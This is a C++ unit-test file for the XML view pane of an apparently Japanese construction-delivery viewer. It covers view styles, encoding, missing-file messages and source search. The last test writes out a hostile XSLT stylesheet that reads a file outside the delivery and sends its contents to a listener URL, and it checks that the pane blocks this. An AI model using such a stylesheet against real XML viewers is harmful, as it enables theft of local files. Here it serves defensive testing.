// The XML view pane: the three styles, the photo class messages, missing
// files and the source text search.
#include <gtest/gtest.h>

#include <QApplication>
#include <QTextCursor>

#include <cstdlib>
#include <filesystem>

#include "check/viewer_model.h"
#include "panes/xml_pane.h"
#include "platform/drive.h"
#include "platform/fileio.h"
#include "platform/paths.h"
#include "platform/text.h"
#include "support/fixtures.h"
#include "support/qstring_print.h"

namespace dlvr {
namespace {

namespace fs = std::filesystem;
using test::ScratchDir;
using test::ScriptedPrompts;

class XmlPaneTest : public ::testing::Test {
 protected:
  XmlPaneTest() {
    TExtRegistry reg(QStringLiteral("frmXML"));
    reg.WriteInteger(QStringLiteral("ViewStyle"), 0);
  }
  ~XmlPaneTest() override { m.View.RemoveWorkFolders(); }

  test::FixedDrives drives;
  test::ScratchTmpdir temp;
  ScriptedPrompts prompts;
  TViewerModel m;
};

// The memo's selection as (start, text).
std::pair<int, QString> Selection(const TfrmXML& pane) {
  QTextCursor c = pane.memSource->textCursor();
  return {c.selectionStart(), c.selectedText()};
}

void SetSource(TfrmXML& pane, const QString& text, int caret = 0) {
  pane.memSource->setPlainText(text);
  QTextCursor c = pane.memSource->textCursor();
  c.setPosition(caret);
  pane.memSource->setTextCursor(c);
}

TEST_F(XmlPaneTest, StyleButtonsCarryTheirCaptions) {
  TfrmXML pane(m);
  EXPECT_EQ(pane.objectName(), "frmXML");
  EXPECT_EQ(pane.rbtStyle->text(), "スタイルシート");
  EXPECT_EQ(pane.rbtXMLSource->text(), "XMLコード");
  EXPECT_EQ(pane.rbtPureSource->text(), "ソースコード");
  EXPECT_TRUE(pane.rbtStyle->isChecked());
  EXPECT_TRUE(pane.sbtSaveAs->isHidden());
  EXPECT_FALSE(pane.sbtSaveAs->isEnabled());
  EXPECT_FALSE(pane.PureSourceChosen());
}

TEST_F(XmlPaneTest, StyleChosenAtExitIsTheStyleAtNextStart) {
  {
    TfrmXML pane(m);
    pane.rbtPureSource->click();
  }
  {
    TfrmXML pane(m);
    EXPECT_TRUE(pane.rbtPureSource->isChecked());
    EXPECT_TRUE(pane.PureSourceChosen());
    EXPECT_EQ(TExtRegistry(QStringLiteral("frmXML")).KeyPath(),
              "Software\\Tavrin\\" + TExtRegistry::ProgramName() + "\\frmXML");
    pane.rbtXMLSource->click();
  }
  TfrmXML pane(m);
  EXPECT_TRUE(pane.rbtXMLSource->isChecked());
  EXPECT_EQ(pane.ViewStyle(), 1);
}

TEST_F(XmlPaneTest, SourceStyleShowsThePlainCopyAsText) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  pane.rbtPureSource->click();
  pane.ShowNode(m.View.FindClassNode(2));
  EXPECT_TRUE(pane.Message().isEmpty());
  EXPECT_FALSE(pane.memSource->isHidden());
  EXPECT_TRUE(pane.webBrowser->isHidden());
  const QString text = pane.memSource->toPlainText();
  EXPECT_TRUE(text.startsWith("<?xml"));
  EXPECT_TRUE(text.contains("現場代理人等通知書の提出について"));
  EXPECT_FALSE(text.contains("xml-stylesheet"));
  EXPECT_FALSE(text.contains('\r'));
  EXPECT_EQ(Selection(pane).first, 0);
  EXPECT_TRUE(Selection(pane).second.isEmpty());
  EXPECT_TRUE(pane.isEnabled());
  EXPECT_EQ(QApplication::overrideCursor(), nullptr);
}

TEST_F(XmlPaneTest, SourceStyleReadsAUtf8FileAsUtf8) {
  ScratchDir d;
  test::CopyTree(test::SamplePath("clean"), d / "kkt");
  std::string meet;
  ASSERT_TRUE(ReadWholeFile(d / "kkt/MEET/MEET.XML", meet));
  std::string utf8 = Cp932ToUtf8(meet);
  utf8.replace(utf8.find("Shift_JIS"), 9, "UTF-8");
  for (const std::string& bytes : {utf8, "\xEF\xBB\xBF" + utf8}) {
    d.WriteBytes("kkt/MEET/MEET.XML", bytes);
    TViewerModel model;
    model.View.Load(d / "kkt");
    TfrmXML pane(model);
    pane.rbtPureSource->click();
    pane.ShowNode(model.View.FindClassNode(2));
    const QString text = pane.memSource->toPlainText();
    EXPECT_TRUE(text.contains("現場代理人等通知書の提出について"));
    EXPECT_TRUE(text.startsWith("<?xml"));
    model.View.RemoveWorkFolders();
  }
}

TEST_F(XmlPaneTest, StylesheetStyleShowsTheCopyWithItsStylesheetInTheBrowser) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  pane.ShowNode(m.View.FindClassNode(3));
  EXPECT_TRUE(pane.memSource->isHidden());
  EXPECT_FALSE(pane.webBrowser->isHidden());
  EXPECT_EQ(pane.webBrowser->CurrentPath().toStdString(), m.View.ManageFilePath(3, true));
  pane.rbtXMLSource->click();
  EXPECT_EQ(pane.webBrowser->CurrentPath().toStdString(), m.View.ManageFilePath(3, false));
  EXPECT_TRUE(pane.isEnabled());
}

TEST_F(XmlPaneTest, PhotoClassWithItsFileShowsOnlyTheViewerMessage) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  pane.ShowNode(m.View.FindClassNode(5));
  EXPECT_EQ(pane.Message(), "写真閲覧ソフトにてご確認ください。");
  EXPECT_TRUE(pane.pnlC->isHidden());
  // Without the photo viewer nothing is asked.
  EXPECT_TRUE(prompts.Shown.empty());
}

TEST_F(XmlPaneTest, PhotoClassOffersThePhotoViewerAndStartsItOnYes) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  int started = 0;
  pane.PhotoViewerAvailable = [] { return true; };
  pane.OnStartPhotoViewer = [&] { ++started; };
  prompts.Answers = {DialogAnswer::No, DialogAnswer::Yes};
  pane.ShowNode(m.View.FindClassNode(5));
  EXPECT_EQ(started, 0);
  pane.ShowNode(m.View.FindClassNode(5));
  EXPECT_EQ(started, 1);
  ASSERT_EQ(prompts.Shown.size(), 2u);
  EXPECT_EQ(prompts.Shown[0].Text, "写真閲覧ソフトを起動します。\r\rよろしいですか？");
  EXPECT_EQ(prompts.Shown[0].Buttons, MsgButtons::YesNo);
  pane.PhotoViewerAvailable = [] { return false; };
  pane.ShowNode(m.View.FindClassNode(5));
  EXPECT_EQ(prompts.Shown.size(), 2u);
}

TEST_F(XmlPaneTest, PhotoClassWithoutItsFileShowsTheMissingMessage) {
  ScratchDir media;
  test::CopyTree(test::SamplePath("clean"), media.Path());
  fs::remove(media / "PHOTO/PHOTO.XML");
  m.View.Load(media.Path());
  TfrmXML pane(m);
  pane.PhotoViewerAvailable = [] { return true; };
  TTreeItem* photo = m.View.FindClassNode(5);
  ASSERT_TRUE(photo);
  pane.ShowNode(photo);
  EXPECT_EQ(pane.Message(), "'PHOTO.XML' がありません。");
  EXPECT_TRUE(pane.pnlC->isHidden());
  EXPECT_TRUE(prompts.Shown.empty());
}

TEST_F(XmlPaneTest, MissingManagementFileBecomesAMessageInEveryStyle) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  fs::remove(m.View.ManageFilePath(6, true));
  fs::remove(m.View.ManageFilePath(6, false));
  pane.ShowNode(m.View.FindClassNode(6));
  EXPECT_EQ(pane.Message(), "'OTHRS.XML' がありません。");
  pane.rbtPureSource->click();
  EXPECT_EQ(pane.Message(), "'OTHRS.XML' がありません。");
  EXPECT_TRUE(prompts.Shown.empty());
  // Another class shows again.
  pane.ShowNode(m.View.FindClassNode(2));
  EXPECT_TRUE(pane.Message().isEmpty());
  EXPECT_FALSE(pane.pnlC->isHidden());
}

TEST_F(XmlPaneTest, LeavingTheSourceStyleClosesTheFindDialogButEnteringItDoesNot) {
  m.View.Load(test::SamplePath("clean"));
  TfrmXML pane(m);
  int closes = 0;
  pane.OnLeaveSource = [&] { ++closes; };
  pane.ShowNode(m.View.FindClassNode(2));
  pane.rbtPureSource->click();
  EXPECT_EQ(closes, 0);
  EXPECT_TRUE(pane.PureSourceChosen());
  pane.rbtStyle->click();
  EXPECT_EQ(closes, 1);
  EXPECT_FALSE(pane.PureSourceChosen());
}

TEST_F(XmlPaneTest, DownwardSearchMovesFromMatchToMatch) {
  TfrmXML pane(m);
  SetSource(pane, "工事 abc 工事\nABC 工事");
  EXPECT_TRUE(pane.FindInSource("工事", true, false));
  EXPECT_EQ(Selection(pane), std::make_pair(0, QString("工事")));
  EXPECT_TRUE(pane.FindInSource("工事", true, false));
  EXPECT_EQ(Selection(pane).first, 7);
  EXPECT_TRUE(pane.FindInSource("工事", true, false));
  EXPECT_EQ(Selection(pane).first, 14);
  EXPECT_FALSE(pane.FindInSource("工事", true, false));
  ASSERT_EQ(prompts.Shown.size(), 1u);
  EXPECT_EQ(prompts.Shown[0].Text, "検索文字列が見つかりませんでした。");
  EXPECT_EQ(Selection(pane).first, 14);  // the selection stays
}

TEST_F(XmlPaneTest, CaseIsIgnoredUnlessAsked) {
  TfrmXML pane(m);
  SetSource(pane, "xx abc ABC");
  EXPECT_TRUE(pane.FindInSource("ABC", true, false));
  EXPECT_EQ(Selection(pane), std::make_pair(3, QString("abc")));
  SetSource(pane, "xx abc ABC");
  EXPECT_TRUE(pane.FindInSource("ABC", true, true));
  EXPECT_EQ(Selection(pane).first, 7);
  EXPECT_FALSE(pane.FindInSource("", true, false));
  EXPECT_EQ(prompts.Shown.size(), 0u);
}

TEST_F(XmlPaneTest, UpwardSearchWithDoubleByteTextFindsWholeCharacters) {
  TfrmXML pane(m);
  const QString text = "工事ａ工事ｂ\n工事";
  SetSource(pane, text, static_cast<int>(text.size()));
  EXPECT_TRUE(pane.FindInSource("工事", false, false));
  EXPECT_EQ(Selection(pane), std::make_pair(7, QString("工事")));
  EXPECT_TRUE(pane.FindInSource("工事", false, false));
  EXPECT_EQ(Selection(pane).first, 3);
  EXPECT_TRUE(pane.FindInSource("工事", false, false));
  EXPECT_EQ(Selection(pane).first, 0);
  EXPECT_FALSE(pane.FindInSource("工事", false, false));
  EXPECT_EQ(prompts.Shown.size(), 1u);
}

TEST_F(XmlPaneTest, AMatchNeverSpansTwoCharacters) {
  // "ｃ" + "a" upper-cased is 82 83 41 in Shift-JIS, whose middle bytes spell
  // "ア"; only whole characters may match.
  TfrmXML pane(m);
  SetSource(pane, "ｃa", 2);
  EXPECT_FALSE(pane.FindInSource("ア", false, false));
  SetSource(pane, "ｃa", 0);
  EXPECT_FALSE(pane.FindInSource("ア", true, false));
  SetSource(pane, "ｃaア", 3);
  EXPECT_TRUE(pane.FindInSource("ア", false, false));
  EXPECT_EQ(Selection(pane).first, 2);
}

// The review's attack: a meeting file whose stylesheet instruction is
// indented and names a stylesheet the delivery controls, which reads a file
// outside the delivery and sends it to a listener. In every style the pane
// shows nothing of it and nothing is sent.
TEST_F(XmlPaneTest, AHostileMeetingFileReadsAndSendsNothing) {
  ScratchDir d;
  d.WriteBytes("outside/secret.xml", "<s>OUTSIDE-MARKER-e07c</s>");
  test::CopyTree(test::SamplePath("clean"), d / "kkt");
  test::LoopbackListener listener;
  const std::string leak = listener.Url("/leak?d=");
  d.WriteBytes("kkt/MEET/EVIL.XSL",
               "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" "
               "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:variable "
               "name=\"s\" select=\"document('" + d / "outside/secret.xml" + "')\"/><xsl:value-of select=\"$s\"/>"
               "<xsl:value-of select=\"document(concat('" + leak + "', $s))\"/></xsl:template></xsl:stylesheet>\n");
  std::string meet;
  ASSERT_TRUE(ReadWholeFile(d / "kkt/MEET/MEET.XML", meet));
  const std::size_t decl = meet.find("?>") + 2;
  for (const std::string& href : {d / "kkt/MEET/EVIL.XSL", std::string("../MEET/EVIL.XSL"), std::string("EVIL.XSL")}) {
    std::string hostile = meet;
    hostile.insert(decl, "\r\n   <?xml-stylesheet type=\"text/xsl\" href=\"" + href + "\"?>");
    d.WriteBytes("kkt/MEET/MEET.XML", hostile);
    TViewerModel model;
    model.View.Load(d / "kkt");
    for (int style = 0; style < 3; ++style) {
      TfrmXML pane(model);
      (style == 0 ? pane.rbtStyle : style == 1 ? pane.rbtXMLSource : pane.rbtPureSource)->click();
      pane.ShowNode(model.View.FindClassNode(2));
      EXPECT_FALSE(pane.webBrowser->RenderedText().contains("OUTSIDE-MARKER")) << href << " style " << style;
      EXPECT_FALSE(pane.memSource->toPlainText().contains("OUTSIDE-MARKER"));
      if (style == 0) {
        EXPECT_TRUE(pane.webBrowser->RenderedText().contains("現場代理人等通知書の提出について"));
      }
    }
    model.View.RemoveWorkFolders();
  }
  EXPECT_EQ(listener.Connections(), 0);
}

}  // namespace
}  // namespace dlvr
